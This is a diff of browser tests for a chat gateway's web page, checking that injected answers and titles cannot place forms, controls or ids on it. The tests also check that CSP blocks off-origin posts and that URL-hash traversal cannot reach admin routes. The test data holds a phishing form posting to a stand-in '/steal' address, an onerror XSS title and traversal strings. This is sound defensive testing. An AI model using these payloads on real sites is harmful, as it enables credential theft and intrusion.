@@ -12,12 +12,14 @@ import signal
 import uuid
 from collections.abc import Iterator
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import httpx
 import pytest
 from fastapi import FastAPI
-from playwright.sync_api import Browser, ConsoleMessage, Page, Playwright, expect, sync_playwright
+from playwright.sync_api import Browser, ConsoleMessage, Page, Playwright, Request, expect, sync_playwright
 
+from chat_gateway.api.web import WEB
 from tests.chat_gateway.conftest import PERSISTENCE_KEY, Service, gateway_env, read_message, wait_for
 from tests.conftest import unreachable
 from tests.fake_openai import TEXT, Plan
@@ -30,6 +32,35 @@ MARKDOWN = (
     "And code:\n\n```python\nprint('hello')\n```\n\nThe end."
 )
 ADMIN_KEY = "admin-key-for-the-page"
+KEY_STORAGE = "durable-chat.key"  # where the page keeps the key it signed in with (app.js)
+
+# What an attacker who writes a model's answer, or a chat's title, would put on the page: a form posting what the
+# reader types to another origin, and controls carrying the ids and names of the page's own elements (the sign-in
+# dialog's `key` first, holding the attacker's key). None of it may become a control, an id or a name.
+ELSEWHERE = "http://127.0.0.1:9/steal"
+PAGE_IDS = re.findall(r'\bid="([^"]+)"', (WEB / "index.html").read_text())
+ATTACKER_KEY = "dck_ATTACKER"
+KEY_INPUT = f'<input id="key" name="key" type="password" value="{ATTACKER_KEY}">'
+KEY_ATTACK = f"Sign in again below.\n\n{KEY_INPUT}\n"
+ANSWER_ATTACK = (
+    "Your session expired: type your password, then press the button below.\n\n"
+    f'<form action="{ELSEWHERE}" method="post"><input name="password" value="typed">'
+    '<button type="submit">Send it</button></form>\n\n'
+    f"<div>\n{KEY_INPUT}\n"
+    + "".join(f'<button type="button" id="{id}" name="{id}">{id}</button>\n' for id in PAGE_IDS if id != "key")
+    + '<label for="delete">Remove this</label>\n</div>\n\n'
+    # A task list: the one control Markdown itself makes.
+    "- [x] a task done\n- [ ] a task to do\n"
+)
+TITLE_ATTACK = (
+    f'<img src=x onerror="alert(1)"><form action="{ELSEWHERE}"><button id="key" name="key">Go</button></form>'
+)
+INTERACTIVE = "form, input, button, select, textarea, label, [id], [name]"
+# Everything the page may ask for: its own files and the /chat API's routes, one segment where an id goes.
+PAGE_ROUTES = re.compile(
+    r"/|/ui/[\w./-]+|/chat|/chat/search|/chat/sessions(/[^/]+(/messages|/favorite|/export)?)?"
+    r"|/chat/messages/[^/]+/(stream|cancel|resume)"
+)
 
 
 @pytest.fixture(scope="module")
@@ -130,6 +161,23 @@ def send(page: Page, text: str) -> None:
 
 def session_of(page: Page) -> str:
     return page.url.split("#", 1)[1]
+
+
+def requests_of(page: Page) -> list[Request]:
+    """Every request the page's tabs make from now on."""
+    made: list[Request] = []
+    page.context.on("request", lambda sent: made.append(sent))
+    return made
+
+
+def strays(requests: list[Request], gateway: Service) -> list[str]:
+    """The requests that went to another origin than the gateway's, or to none of the page's routes."""
+    origin = urlsplit(gateway.url).netloc
+    return [
+        f"{sent.method} {sent.url}"
+        for sent in requests
+        if (address := urlsplit(sent.url)).netloc != origin or not PAGE_ROUTES.fullmatch(address.path)
+    ]
 
 
 def test_a_message_streams_and_is_rendered_as_markdown(
@@ -323,25 +371,29 @@ def test_tool_calls_and_their_results_are_shown(page: Page, web_gateway: Service
 def locked_gateway(
     tmp_path: Path, persistence: Service, _fake_openai_server: tuple[FastAPI, str], fake_openai: FastAPI
 ) -> Iterator[Service]:
-    yield from _gateway(tmp_path, persistence, _fake_openai_server[1], CHAT_ADMIN_KEYS=ADMIN_KEY)
+    # Keys not cached: a key revoked is refused at its next request.
+    yield from _gateway(tmp_path, persistence, _fake_openai_server[1], CHAT_ADMIN_KEYS=ADMIN_KEY, KEY_CACHE_SECONDS="0")
+
+
+def create_key(gateway: Service, user_id: str) -> dict[str, str]:
+    created = httpx.post(f"{gateway.url}/admin/keys", json={"user_id": user_id}, headers={"x-api-key": ADMIN_KEY})
+    assert created.status_code == 201, created.text
+    return dict(created.json())
 
 
 def test_a_locked_gateway_asks_for_a_key_and_shows_that_user_s_chats(
     page: Page, locked_gateway: Service, console: Console
 ) -> None:
-    created = httpx.post(
-        f"{locked_gateway.url}/admin/keys", json={"user_id": f"ann-{uuid.uuid4()}"}, headers={"x-api-key": ADMIN_KEY}
-    )
-    assert created.status_code == 201, created.text
+    created = create_key(locked_gateway, f"ann-{uuid.uuid4()}")
     httpx.post(
-        f"{locked_gateway.url}/chat", json={"message": "Ann's question"}, headers={"x-api-key": created.json()["key"]}
+        f"{locked_gateway.url}/chat", json={"message": "Ann's question"}, headers={"x-api-key": created["key"]}
     ).raise_for_status()
     page.goto(locked_gateway.url)
     expect(page.locator("#sign-in")).to_be_visible()
     page.locator("#key").fill("not-a-key")
     page.locator("#key").press("Enter")
     expect(page.locator("#sign-in-error")).to_have_text("That key was not accepted.")
-    page.locator("#key").fill(created.json()["key"])
+    page.locator("#key").fill(created["key"])
     page.locator("#key").press("Enter")
     expect(page.locator("#sign-in")).to_be_hidden()
     expect(page.locator("#sessions a .name")).to_have_text(["Ann's question"])
@@ -375,8 +427,119 @@ def test_the_page_loads_nothing_from_elsewhere(page: Page, web_gateway: Service)
     page.on("request", lambda request: requested.append(request.url))
     response = page.goto(web_gateway.url)
     assert response is not None
-    assert "default-src 'self'" in response.headers["content-security-policy"]
+    policy = response.headers["content-security-policy"]
+    assert "default-src 'self'" in policy
+    assert "form-action 'none'" in policy  # no form posts anywhere: the page's own are handled by its script
+    assert "base-uri 'none'" in policy  # nor does a <base> move where its relative addresses go
     expect(page.locator("#welcome")).to_be_visible()
     wait_for(lambda: any("/chat/sessions" in url for url in requested))
     assert requested
     assert all(url.startswith(web_gateway.url) for url in requested), requested
+
+
+def test_a_form_that_slipped_onto_the_page_posts_nowhere(page: Page, web_gateway: Service, console: Console) -> None:
+    """The policy is in force, not only sent: were the sanitizer ever to let a form through, it would not post."""
+    page.goto(web_gateway.url)
+    expect(page.locator("#welcome")).to_be_visible()
+    requests = requests_of(page)
+    with page.expect_console_message(lambda message: "form-action" in message.text):
+        page.evaluate(
+            """action => {
+                const form = Object.assign(document.createElement("form"), { action, method: "post" });
+                document.body.append(form);
+                form.submit();
+            }""",
+            ELSEWHERE,
+        )
+    console.problems = [p for p in console.problems if "form-action" not in p]  # the refusal, logged
+    # Still the page (read by a script: Playwright's locators would wait for the navigation refused).
+    assert page.evaluate("document.querySelector('#welcome') !== null && location.href") == f"{web_gateway.url}/"
+    assert strays(requests, web_gateway) == []
+
+
+def test_an_answer_or_a_title_puts_no_form_control_id_or_name_on_the_page(
+    page: Page, web_gateway: Service, fake_openai: FastAPI
+) -> None:
+    requests = requests_of(page)
+    fake_openai.state.text = ANSWER_ATTACK
+    sent = httpx.post(f"{web_gateway.url}/chat", json={"message": "Hello"}, timeout=30)
+    assert sent.status_code == 200, sent.text
+    session_id = sent.json()["session_id"]
+    renamed = httpx.put(f"{web_gateway.url}/chat/sessions/{session_id}", json={"title": TITLE_ATTACK}, timeout=30)
+    assert renamed.status_code == 200, renamed.text
+    page.goto(f"{web_gateway.url}/#{session_id}")
+    body = page.locator("article.assistant .body")
+    expect(body).to_contain_text("Your session expired")
+    expect(body.locator(INTERACTIVE)).to_have_count(0)
+    expect(body).to_contain_text("Send it")  # its words stay, as words
+    expect(body.locator("li")).to_have_text(["☑ a task done", "☐ a task to do"])
+    # Each of the page's ids names one element: its own.
+    counts = page.evaluate("ids => ids.map((id) => document.querySelectorAll(`[id='${id}']`).length)", PAGE_IDS)
+    assert dict(zip(PAGE_IDS, counts, strict=True)) == dict.fromkeys(PAGE_IDS, 1)
+    for shown in (page.locator("#title"), page.locator("#sessions a .name")):
+        expect(shown).to_have_text(TITLE_ATTACK)  # a title is text
+        expect(shown.locator("*")).to_have_count(0)
+    assert page.title() == f"{TITLE_ATTACK} · Durable chat"
+    body.get_by_text("Send it").click()  # a submit button, had it stayed one
+    body.get_by_text("Remove this").click()  # a label clicking the page's Delete, had it stayed one
+    # The page's own controls still do their work, and only they.
+    page.locator("#favorite").click()
+    expect(page.locator("#favorite")).to_have_attribute("aria-pressed", "true")
+    expect(page.locator("#ask")).to_be_hidden()
+    assert strays(requests, web_gateway) == []
+
+
+@pytest.mark.parametrize("attack", [KEY_ATTACK, ANSWER_ATTACK], ids=["the-key-input", "every-id-of-the-page"])
+def test_signing_in_again_keeps_the_key_typed_not_one_an_answer_holds(
+    page: Page, locked_gateway: Service, fake_openai: FastAPI, console: Console, attack: str
+) -> None:
+    user = f"ann-{uuid.uuid4()}"
+    first, second = create_key(locked_gateway, user), create_key(locked_gateway, user)
+    fake_openai.state.text = attack
+    sent = httpx.post(
+        f"{locked_gateway.url}/chat", json={"message": "Hello"}, headers={"x-api-key": first["key"]}, timeout=30
+    )
+    assert sent.status_code == 200, sent.text
+    requests = requests_of(page)
+    page.goto(f"{locked_gateway.url}/#{sent.json()['session_id']}")
+    # The page's own dialog and its field, however many elements an answer names `key` or `sign-in`.
+    sign_in = page.locator("body > dialog").filter(has_text="This gateway needs a key")
+    sign_in.get_by_label("Key").fill(first["key"])
+    sign_in.get_by_label("Key").press("Enter")
+    complete(page)  # the answer is on the page
+    # The key is revoked while the answer is shown: the next request asks for another.
+    revoked = httpx.delete(f"{locked_gateway.url}/admin/keys/{first['id']}", headers={"x-api-key": ADMIN_KEY})
+    assert revoked.status_code == 200, revoked.text
+    page.get_by_role("searchbox", name="Search chats").fill("Hello")
+    expect(sign_in).to_be_visible()
+    signed_again = len(requests)
+    sign_in.get_by_label("Key").fill(second["key"])
+    sign_in.get_by_label("Key").press("Enter")
+    expect(sign_in).to_be_hidden()
+    expect(page.locator("#sessions a .name")).to_have_text(["Hello"])
+    assert page.evaluate("name => localStorage.getItem(name)", KEY_STORAGE) == second["key"]
+    api_calls = [sent for sent in requests[signed_again:] if urlsplit(sent.url).path.startswith("/chat")]
+    assert api_calls
+    assert {sent.headers.get("x-api-key") for sent in api_calls} == {second["key"]}
+    assert strays(requests, locked_gateway) == []
+    console.problems = [p for p in console.problems if "401" not in p]  # the revoked key's refusals
+
+
+def test_an_address_s_hash_never_leads_the_page_outside_its_routes(
+    page: Page, locked_gateway: Service, console: Console
+) -> None:
+    # An admin's page: a request the hash could steer to /admin/keys would carry an admin's key.
+    page.add_init_script(f"localStorage.setItem({json.dumps(KEY_STORAGE)}, {json.dumps(ADMIN_KEY)})")
+    requests = requests_of(page)
+    page.goto(f"{locked_gateway.url}/#../../admin/keys")
+    expect(page.locator("#status")).to_be_visible()
+    for hash in ("..", "%2e%2e/%2e%2e/admin/keys", "x/../../../admin/keys", "../../admin/keys?user_id=ann"):
+        page.locator("#new-chat").click()
+        expect(page.locator("#status")).to_be_hidden()
+        page.evaluate("hash => { location.hash = hash; }", hash)
+        expect(page.locator("#status")).to_have_attribute("data-kind", "error")
+        expect(page.locator("#status")).to_be_visible()
+    assert strays(requests, locked_gateway) == []
+    assert [sent.url for sent in requests if "/chat/sessions/" in sent.url]  # asked for as chats, not elsewhere
+    # The browser logs the refusals of what names no chat: those were expected.
+    console.problems = [p for p in console.problems if not re.search(r"status of (404|422)", p)]
